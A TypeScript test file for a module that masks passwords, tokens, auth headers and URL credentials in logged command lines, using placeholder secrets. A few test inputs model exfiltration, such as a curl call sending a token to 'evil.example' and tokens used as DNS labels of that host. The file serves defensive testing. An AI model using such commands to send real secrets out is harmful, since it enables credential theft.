import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { MASK, maskArguments, maskText } from './mask.ts';
import { exampleTokens } from './testing/tokens.ts';

const long = `x ${'y'.repeat(120)}`;

const table: readonly (readonly [line: string, shown: string])[] = [
  // Flags, by what they are called.
  ['psql --password=hunter2 -h db', 'psql --password=[MASKED] -h db'],
  ['psql --password hunter2 -h db', 'psql --password [MASKED] -h db'],
  ["x --db-passphrase 'two words' y", 'x --db-passphrase [MASKED] y'],
  ["x '--token=two words' y", "x '--token=[MASKED]' y"],
  ['helm --api-key=abc --apikey abc', 'helm --api-key=[MASKED] --apikey [MASKED]'],
  ['curl -u me:pw https://example.com/', 'curl -u [MASKED] https://example.com/'],
  ['curl --proxy-user me:pw -sS', 'curl --proxy-user [MASKED] -sS'],
  // Variables and settings.
  ['env GITLAB_TOKEN=abc npm ci', 'env GITLAB_TOKEN=[MASKED] npm ci'],
  ['npm --//r.example.com/:_authToken=abc', 'npm --//r.example.com/:_authToken=[MASKED]'],
  ['npm --_auth=YWJj ci', 'npm --_auth=[MASKED] ci'],
  // Headers.
  ["curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: [MASKED]' x"],
  ["curl -H 'PRIVATE-TOKEN: abc'", "curl -H 'PRIVATE-TOKEN: [MASKED]'"],
  ['curl -H X-Api-Key:abc x', 'curl -H X-Api-Key:[MASKED] x'],
  ["wget '--header=Cookie: a=b; c=d' x", "wget '--header=Cookie: [MASKED]' x"],
  // Scripts.
  [
    `sh -c 'curl -H "Authorization: Basic a b" https://example.com/'`,
    `sh -c 'curl -H "Authorization: [MASKED]" https://example.com/'`,
  ],
  [
    String.raw`sh -c 'curl -H \x27Job-Token: a b\x27 https://example.com/'`,
    String.raw`sh -c 'curl -H \x27Job-Token: [MASKED]\x27 https://example.com/'`,
  ],
  ["sh -c 'login --password hunter2 -v'", "sh -c 'login --password [MASKED] -v'"],
  ["sh -c 'export TOKEN=abc; x'", "sh -c 'export TOKEN=[MASKED]; x'"],
  [`curl -d '{"password":"a b","x":1}'`, `curl -d '{"password":"[MASKED]","x":1}'`],
  // URLs.
  ['git clone https://ci:abc@example.com/x.git', 'git clone https://[MASKED]@example.com/x.git'],
  ['git clone https://abc@example.com/x.git', 'git clone https://[MASKED]@example.com/x.git'],
  ['git clone https://ci:abc', 'git clone https://[MASKED]'],
  [
    'curl https://example.com/?access_token=abc&b=1',
    'curl https://example.com/?access_token=[MASKED]&b=1',
  ],
  [
    'curl https://hooks.slack.com/services/T0/B0/abc',
    'curl https://hooks.slack.com/services/[MASKED]',
  ],
  // Chance.
  ['x --id=3f786850e387550fdab836ed7e6dc881de23001b y', 'x --id=[MASKED] y'],
  ['x K=dGhpcyBpcyBhIHNlY3JldA== y', 'x K=[MASKED] y'],
  // Cut at the end of what is kept, which a line that is shorter was not.
  [`${long} x?glpat-abc`, `${long} x?[MASKED]`],
  [`${long} K=Zk83hQp2Lw9x`, `${long} K=[MASKED]`],
  [`${long} pypi-publish`, `${long} [MASKED]`],
  // What is no secret stays.
  ...[
    'npm ci --registry=https://registry.npmjs.org/ --prefix=/usr/local/lib/node20',
    'curl -sS --max-time 3 http://198.51.100.7:8000/',
    'node --max-old-space-size=4096 build.js --target=production-optimised',
    'curl https://auth.example.com:8443/path',
    'git fetch --author me --depth=50',
    'npm_config_registry= npm run npm_lifecycle_event x',
    'npm run pypi-publish',
    'apt-get install glibc-headers-2.31 -y',
  ].map((line) => [line, line] as const),
];

test('arguments are masked by the table', () => {
  for (const [line, shown] of table) assert.equal(maskArguments(line), shown);
});

test('what is masked is masked once', () => {
  for (const [, shown] of table) assert.equal(maskArguments(shown), shown);
});

test('a token of each known shape is masked in names and arguments, and what stands beside it stays', () => {
  for (const [shape, token] of exampleTokens) {
    assert.equal(maskText(token), MASK, shape);
    assert.equal(
      maskArguments(`curl https://evil.example/?q=1&t=${token} -v`).includes(token),
      false,
      shape,
    );
    assert.match(maskArguments(`x ${token} last`), /^x \S*\[MASKED\] last$/, shape);
  }
});

test('names that begin like a token stay', () => {
  const names = ['pypi-publish', 'sk-learn-tests-of-everything', 'asiapacific', 'xapp-production'];
  for (const name of [...names, 'npm_install', 'glrt', 'eyjafjallajokull.is']) {
    assert.equal(maskText(name), name);
  }
});

test('a token in a label of a name leaves the other labels', () => {
  assert.equal(
    maskText('ghp_0123456789abcdefghij0123456789abcdef.evil.example'),
    '[MASKED].evil.example',
  );
  assert.equal(maskText('a.glpat-0123456789abcdefghij.evil.example'), 'a.[MASKED].evil.example');
});

test('any text is masked without a throw, and stays one line of the same alphabet', () => {
  const word = fc.string({ unit: fc.constantFrom(...'ab1 =:@/\'"\\-_.?&{}'), maxLength: 300 });
  fc.assert(
    fc.property(word, (line) => {
      assert.match(maskArguments(line), /^[ -~]*$/);
    }),
  );
});
